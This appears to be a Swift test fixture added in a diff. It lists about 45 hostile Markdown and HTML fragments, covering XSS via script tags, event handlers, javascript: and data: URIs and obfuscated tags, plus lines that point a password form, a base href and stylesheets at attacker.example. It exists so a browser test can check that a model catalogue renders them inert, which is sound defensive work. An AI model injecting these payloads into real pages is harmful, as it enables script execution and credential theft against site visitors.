@@ -1,0 +1,60 @@
+/// Model cards written to run script or restyle the page: what the web catalogue must render
+/// inert. Each sets `window.__dlhub_pwned` (or tries to) if it ever runs, so a browser test can
+/// check that nothing did; the property test in WebPagesTests joins them at random.
+public enum HostileMarkdown {
+    public static let fragments: [String] = [
+        "<script>window.__dlhub_pwned = 'script'</script>",
+        "<img src=x onerror=\"window.__dlhub_pwned='img'\">",
+        "<svg onload=\"window.__dlhub_pwned='svg'\"></svg>",
+        "<iframe src=\"javascript:window.__dlhub_pwned='iframe'\"></iframe>",
+        "[click me](javascript:window.__dlhub_pwned='link')",
+        "[click me](JaVaScRiPt:window.__dlhub_pwned='link2')",
+        "[click me](&#106;avascript:window.__dlhub_pwned='entity')",
+        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[vb](vbscript:msgbox(1))",
+        "[quote](http://example.org/\"onmouseover=\"window.__dlhub_pwned='attr')",
+        "[spaced](http://example.org/ onmouseover=window.__dlhub_pwned=1)",
+        "![x](x\" onerror=\"window.__dlhub_pwned='image')",
+        "![alt with \"quotes\" <b>](javascript:alert(1))",
+        "[ref link][evil]\n\n[evil]: javascript:window.__dlhub_pwned='ref'",
+        "<a href=\"javascript:window.__dlhub_pwned='a'\">raw anchor</a>",
+        "<style>body { display: none } main { background: url(//attacker.example/x) }</style>",
+        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</div>",
+        "<link rel=stylesheet href=//attacker.example/x.css>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.__dlhub_pwned='meta'\">",
+        "<form action=\"//attacker.example\"><input name=password></form>",
+        "<base href=\"//attacker.example/\">",
+        "```\"><script>window.__dlhub_pwned='fence'</script>\nprint(1)\n```",
+        "``` onmouseover=\"window.__dlhub_pwned='lang'\"\ncode\n```",
+        "`<script>window.__dlhub_pwned='inline'</script>`",
+        "<p onclick=\"window.__dlhub_pwned='p'\">paragraph</p>",
+        "<details open ontoggle=\"window.__dlhub_pwned='details'\">x</details>",
+        "<<script>script>window.__dlhub_pwned='nested'<</script>/script>",
+        "<scr<script>ipt>window.__dlhub_pwned='split'</scr</script>ipt>",
+        "<!-- comment --><script>window.__dlhub_pwned='comment'</script>",
+        "<![CDATA[<script>window.__dlhub_pwned='cdata'</script>]]>",
+        "**bold <script>window.__dlhub_pwned='bold'</script>**",
+        "| a | b |\n|---|---|\n| <script>window.__dlhub_pwned='table'</script> | [x](javascript:alert(1)) |",
+        "> quote <img src=x onerror=window.__dlhub_pwned='quote'>",
+        "- item <svg/onload=window.__dlhub_pwned='list'>",
+        "# Heading <script>window.__dlhub_pwned='heading'</script>",
+        "<math><mtext></p><script>window.__dlhub_pwned='math'</script></mtext></math>",
+        "<object data=\"javascript:window.__dlhub_pwned='object'\"></object>",
+        "<embed src=\"javascript:window.__dlhub_pwned='embed'\">",
+        "[](  javascript:window.__dlhub_pwned='spaces'  )",
+        "[tab](java\tscript:window.__dlhub_pwned='tab')",
+        "[nl](java\nscript:window.__dlhub_pwned='newline')",
+        "\u{0}<script>window.__dlhub_pwned='nul'</script>",
+        "<a href=\"http://x\" onclick=\"window.__dlhub_pwned='mixed'\">mixed</a>",
+        "[protocol-relative](//attacker.example/x)",
+        "[backslash](\\\\attacker.example\\x)",
+    ]
+
+    /// Harmless Markdown, to mix in: what a real model card holds.
+    public static let benign: [String] = [
+        "# Iris classifier", "Trained on the **150** flowers of Fisher's data set.", "- accuracy: 0.97\n- classes: 3",
+        "See [the paper](https://doi.org/10.1016/j.jpdc.2020.08.006).", "```python\nmodel.predict(x)\n```",
+        "> Limits: not for medical use.",
+        "| metric | value |\n|---|---|\n| F1 | 0.96 |", "Relative [link](../alice/iris@1) and [anchor](#versions).",
+    ]
+}
